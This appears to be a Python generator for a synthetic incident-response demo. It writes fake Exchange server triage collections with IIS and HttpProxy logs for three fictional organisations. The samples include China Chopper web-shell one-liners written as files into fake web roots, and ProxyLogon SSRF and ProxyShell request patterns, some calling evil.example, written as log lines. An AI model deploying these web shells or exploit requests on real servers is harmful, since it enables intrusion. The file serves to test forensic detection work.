#!/usr/bin/env python3
"""Generate the synthetic fleet demo under examples/fleet/ (deterministic: fixed seed, no clock).

Three organisations, seven Exchange servers, as triage collections in an ORG/HOST/C/... layout
(a KAPE copy of drive C:), plus roots.csv:

  alpha/EX-A1  compromised 2021-03-03 by 203.0.113.77 (ProxyLogon SSRF, China Chopper in
               aspnet_client, driven with antSword)              -> same infrastructure as EX-B1
  alpha/EX-A2  patched (March 2021 SU), logs cover the window      -> no evidence found
  beta/EX-B1   compromised 2021-03-04 by 203.0.113.77, the same web-shell file under another
               name                                               -> cluster with EX-A1
  beta/EX-B2   unpatched build, IIS logs only from 2021-03-05     -> not assessable
  gamma/EX-G1  ProxyShell in August 2021 from 198.51.100.201, web shell
               owa/auth/HWTJQDMFVMPOON.aspx (a name Huntress published) -> another campaign
  gamma/EX-G2  an internal penetration test from 10.20.0.5 (ProxyLogon probes that fail) and a
               user's mail script (python-requests, authenticated) from the organisation's
               address 192.0.2.80                                  -> exploitation attempted;
               neither address is an indicator (private; ordinary user's client)
  gamma/EX-G3  patched (July 2021 SU), logs of August 2021         -> no evidence found

Addresses are documentation ranges (RFC 5737) and private ranges; names are placeholders.
Usage: python3 examples/fleet/generate.py   (rewrites examples/fleet/collections and roots.csv)
"""
import datetime as dt
import os
import random
import shutil
import uuid

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "collections")
EXCH = "Program Files/Microsoft/Exchange Server/V15"
RNG = random.Random(2021)

CHOPPER = '<%@ Page Language="Jscript"%><%eval(Request.Item["p4ssw0rd"],"unsafe");%>\n'
CHOPPER_G1 = '<%@ Page Language="Jscript"%><%eval(Request.Item["exec_code"],"unsafe");%>\n'

IIS_FIELDS = ("date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
              "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken")

HP_FIELDS = ("DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,"
             "Protocol,UrlHost,UrlStem,ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,"
             "Organization,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,"
             "ErrorCode,Method,ProxyAction,TargetServer,TargetServerVersion,RoutingType,RoutingHint,"
             "BackEndCookie,ServerLocatorHost,ServerLocatorLatency,RequestBytes,ResponseBytes,"
             "TargetOutstandingRequests,AuthModulePerfContext,HttpPipelineLatency,"
             "CalculateTargetBackEndLatency,GlsLatencyBreakup,TotalGlsLatency,AccountForestLatencyBreakup,"
             "TotalAccountForestLatency,ResourceForestLatencyBreakup,TotalResourceForestLatency,ADLatency,"
             "SharedCacheLatencyBreakup,TotalSharedCacheLatency,ActivityContextLifeTime,"
             "ModuleToHandlerSwitchingLatency,ClientReqStreamLatency,BackendReqInitLatency,"
             "BackendReqStreamLatency,BackendProcessingLatency,BackendRespInitLatency,"
             "BackendRespStreamLatency,ClientRespStreamLatency,KerberosAuthHeaderLatency,"
             "HandlerCompletionLatency,RequestHandlerLatency,HandlerToModuleSwitchingLatency,ProxyTime,"
             "CoreLatency,RoutingLatency,HttpProxyOverhead,TotalRequestTime,RouteRefresherLatency,UrlQuery,"
             "BackEndGenericInfo,GenericInfo,GenericErrors,EdgeTraceId,DatabaseGuid,UserADObjectGuid,"
             "PartitionEndpointLookupLatency,RoutingStatus").split(",")

USERS = ["alice", "bob", "carol", "dave", "erin", "frank"]


def rid():
    return str(uuid.UUID(int=RNG.getrandbits(128), version=4))


def write(path, text, bom=False):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="utf-8-sig" if bom else "utf-8", newline="\n") as f:
        f.write(text)


class Server:
    def __init__(self, org, host, ip, build, first_day, last_day, domain):
        self.org, self.host, self.ip, self.build = org, host, ip, build
        self.first_day, self.last_day, self.domain = first_day, last_day, domain
        self.root = os.path.join(OUT, org, host, "C")
        self.iis = {}      # day -> list of (time, line)
        self.proxy = {}    # (day, hour) -> list of (time, row dict)

    # -- IIS -----------------------------------------------------------------------------
    def iis_line(self, t, method, stem, query, user, client, ua, status, port=443, vdir=True):
        if vdir:
            q = "&CorrelationID=<empty>;&cafeReqId=%s;&encoding=;" % rid()
            query = q if query in ("", "-") else query + q
        line = " ".join([
            t.strftime("%Y-%m-%d %H:%M:%S"), self.ip, method, stem, query or "-", str(port),
            user or "-", client, (ua or "-").replace(" ", "+"), "-", str(status), "0", "0",
            str(RNG.randint(2, 400)),
        ])
        self.iis.setdefault(t.date(), []).append((t, line))

    def benign_day(self, day):
        for _ in range(24):
            t = dt.datetime.combine(day, dt.time(RNG.randint(6, 21), RNG.randint(0, 59), RNG.randint(0, 59)))
            u = RNG.choice(USERS)
            kind = RNG.random()
            if kind < 0.4:
                self.iis_line(t, "GET", "/owa/", "", "%s\\%s" % (self.domain.upper(), u),
                              "10.%d.%d.%d" % (RNG.randint(1, 30), RNG.randint(0, 255), RNG.randint(2, 250)),
                              "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36",
                              200)
            elif kind < 0.7:
                self.iis_line(t, "POST", "/mapi/emsmdb/", "mailboxId=%s@%s.example" % (u, self.domain),
                              "%s@%s.example" % (u, self.domain), "10.%d.1.%d" % (RNG.randint(1, 30), RNG.randint(2, 250)),
                              "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13801; Pro)", 200)
            elif kind < 0.9:
                self.iis_line(t, "GET", "/Microsoft-Server-ActiveSync/default.eas", "Cmd=Ping&User=%s" % u,
                              "%s@%s.example" % (u, self.domain), "192.0.2.%d" % RNG.randint(100, 200),
                              "Outlook-iOS-Android/1.0", 200)
            else:
                self.iis_line(t, "GET", "/owa/healthcheck.htm", "", None, "10.%d.0.5" % RNG.randint(1, 30), None, 200)
        # One HttpProxy line at the start of each day keeps the proxy coverage honest.
        t = dt.datetime.combine(day, dt.time(0, 5, 0))
        self.proxy_row(t, "Owa", "/owa/", "", "%s@%s.example" % (RNG.choice(USERS), self.domain),
                       "", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "10.%d.1.20" % RNG.randint(1, 30), 200, "GET")

    # -- HttpProxy ------------------------------------------------------------------------
    def proxy_row(self, t, protocol, stem, anchor, user, query, ua, client, status, method):
        b = self.build.split(".")
        row = dict.fromkeys(HP_FIELDS, "")
        row.update({
            "DateTime": t.strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % RNG.randint(0, 999),
            "RequestId": rid(), "MajorVersion": b[0], "MinorVersion": b[1], "BuildVersion": b[2],
            "RevisionVersion": b[3], "Protocol": protocol, "UrlHost": "mail.%s.example" % self.domain,
            "UrlStem": stem, "IsAuthenticated": "true" if user else "false", "AuthenticatedUser": user,
            "AnchorMailbox": anchor, "UserAgent": ua, "ClientIpAddress": client,
            "ServerHostName": self.host, "HttpStatus": str(status), "BackEndStatus": str(status),
            "Method": method, "ProxyAction": "Proxy", "TargetServer": "%s.%s.local" % (self.host.lower(), self.domain),
            "UrlQuery": query,
        })
        self.proxy.setdefault((t.date(), t.hour), []).append((t, row))

    # -- attacks --------------------------------------------------------------------------
    def proxylogon(self, start, attacker, ua, shell_path):
        """SSRF through ServerInfo~ anchors, then the web shell driven with antSword."""
        t = start
        for target in ["autodiscover/autodiscover.xml", "mapi/emsmdb/", "ecp/proxyLogon.ecp",
                       "ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory"]:
            status = 241 if target.startswith("ecp/proxyLogon") else 200
            self.proxy_row(t, "Ecp", "/ecp/y.js", "ServerInfo~a]@%s.%s.local:444/%s#" % (self.host.lower(), self.domain, target),
                           "", "", ua if ua != "antSword/v2.1" else "python-requests/2.25.1", attacker, status, "POST")
            self.iis_line(t, "POST", "/ecp/y.js", "", None, attacker, "python-requests/2.25.1", status)
            t += dt.timedelta(seconds=7)
        t += dt.timedelta(minutes=5)
        for _ in range(6):
            self.iis_line(t, "POST", shell_path, "-", None, attacker, "antSword/v2.1", 200, vdir=False)
            t += dt.timedelta(minutes=RNG.randint(1, 30))

    def proxyshell(self, start, attacker, shell_path):
        t = start
        for q in ["@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example",
                  "@evil.example/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9z&Email=autodiscover/autodiscover.json%3F@evil.example"]:
            self.iis_line(t, "POST", "/autodiscover/autodiscover.json", q, None, attacker, "python-requests/2.26.0", 200)
            t += dt.timedelta(seconds=20)
        t += dt.timedelta(minutes=12)
        for _ in range(5):
            self.iis_line(t, "POST", shell_path, "", None, attacker, "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:91.0) Gecko/20100101 Firefox/91.0", 200)
            t += dt.timedelta(minutes=RNG.randint(2, 40))

    def pentest(self, start, tester):
        t = start
        for _ in range(3):
            self.proxy_row(t, "Ecp", "/ecp/x.js", "ServerInfo~a]@%s.%s.local:444/autodiscover/autodiscover.xml?#" % (self.host.lower(), self.domain),
                           "", "", "python-requests/2.25.1", tester, 500, "POST")
            self.iis_line(t, "POST", "/ecp/x.js", "", None, tester, "python-requests/2.25.1", 500)
            t += dt.timedelta(seconds=3)

    def user_script(self, start, user, address):
        t = start
        for _ in range(4):
            self.iis_line(t, "GET", "/EWS/Exchange.asmx", "", "%s\\%s" % (self.domain.upper(), user), address,
                          "python-requests/2.25.1", 200)
            t += dt.timedelta(minutes=15)

    # -- files ----------------------------------------------------------------------------
    def file(self, rel, text):
        write(os.path.join(self.root, rel), text)

    def save(self):
        day = self.first_day
        while day <= self.last_day:
            self.benign_day(day)
            day += dt.timedelta(days=1)
        for d, lines in sorted(self.iis.items()):
            lines.sort()
            head = ("#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n"
                    "#Date: %s 00:00:00\n#Fields: %s\n" % (d.isoformat(), IIS_FIELDS))
            write(os.path.join(self.root, "inetpub/logs/LogFiles/W3SVC1/u_ex%s.log" % d.strftime("%y%m%d")),
                  head + "".join(l + "\n" for _, l in lines))
        version = "%02d.%02d.%04d.%03d" % tuple(int(x) for x in self.build.split("."))
        for (d, h), rows in sorted(self.proxy.items()):
            rows.sort(key=lambda r: r[0])
            protocol = rows[0][1]["Protocol"]
            text = ",".join(HP_FIELDS) + "\n"
            text += ("#Software: Microsoft Exchange Server\n#Version: %s\n#Log-type: HttpProxy Logs\n"
                     "#Date: %sT%02d:00:00.000Z\n#Fields: %s\n" % (version, d.isoformat(), h, ",".join(HP_FIELDS)))
            for _, r in rows:
                text += ",".join(r[c] for c in HP_FIELDS) + "\n"
            write(os.path.join(self.root, EXCH, "Logging/HttpProxy/%s/HttpProxy_%s%02d-1.LOG" % (protocol, d.strftime("%Y%m%d"), h)),
                  text, bom=True)
        # The stock pages every Exchange install has (so the file hunt reads a web root).
        self.file("inetpub/wwwroot/iisstart.htm", "<html><body>IIS Windows Server</body></html>\n")
        self.file(EXCH + "/FrontEnd/HttpProxy/owa/auth/logon.aspx", "<%@ Page Language=\"C#\" %>\n")


def main():
    if os.path.isdir(OUT):
        shutil.rmtree(OUT)
    d = dt.date
    servers = []

    a1 = Server("alpha", "EX-A1", "10.1.1.10", "15.1.2176.2", d(2021, 3, 1), d(2021, 3, 10), "alpha")
    a1.proxylogon(dt.datetime(2021, 3, 3, 2, 41, 27), "203.0.113.77", "antSword/v2.1",
                  "/aspnet_client/system_web/QmVhcmRz.aspx")
    a1.file("inetpub/wwwroot/aspnet_client/system_web/QmVhcmRz.aspx", CHOPPER)
    servers.append(a1)

    a2 = Server("alpha", "EX-A2", "10.1.1.11", "15.1.2176.9", d(2021, 3, 1), d(2021, 3, 10), "alpha")
    servers.append(a2)

    b1 = Server("beta", "EX-B1", "10.2.1.10", "15.1.2176.2", d(2021, 3, 1), d(2021, 3, 10), "beta")
    b1.proxylogon(dt.datetime(2021, 3, 4, 5, 12, 3), "203.0.113.77", "antSword/v2.1",
                  "/aspnet_client/system_web/ZGVsdGEx.aspx")
    b1.file("inetpub/wwwroot/aspnet_client/system_web/ZGVsdGEx.aspx", CHOPPER)
    servers.append(b1)

    b2 = Server("beta", "EX-B2", "10.2.1.11", "15.1.2176.2", d(2021, 3, 5), d(2021, 3, 10), "beta")
    servers.append(b2)

    g1 = Server("gamma", "EX-G1", "10.3.1.10", "15.1.2176.9", d(2021, 8, 16), d(2021, 8, 31), "gamma")
    g1.proxyshell(dt.datetime(2021, 8, 23, 1, 15, 44), "198.51.100.201", "/owa/auth/HWTJQDMFVMPOON.aspx")
    g1.file(EXCH + "/FrontEnd/HttpProxy/owa/auth/HWTJQDMFVMPOON.aspx", CHOPPER_G1)
    servers.append(g1)

    g2 = Server("gamma", "EX-G2", "10.3.1.11", "15.1.2308.14", d(2021, 8, 16), d(2021, 8, 31), "gamma")
    g2.pentest(dt.datetime(2021, 8, 25, 14, 0, 5), "10.20.0.5")
    g2.user_script(dt.datetime(2021, 8, 26, 9, 30, 0), "frank", "192.0.2.80")
    servers.append(g2)

    g3 = Server("gamma", "EX-G3", "10.3.1.12", "15.1.2308.14", d(2021, 8, 16), d(2021, 8, 31), "gamma")
    servers.append(g3)

    for s in servers:
        s.save()
    rows = ["path,host,org"] + ["collections/%s/%s,%s,%s" % (s.org, s.host, s.host, s.org) for s in servers]
    write(os.path.join(HERE, "roots.csv"), "\n".join(rows) + "\n")


if __name__ == "__main__":
    main()
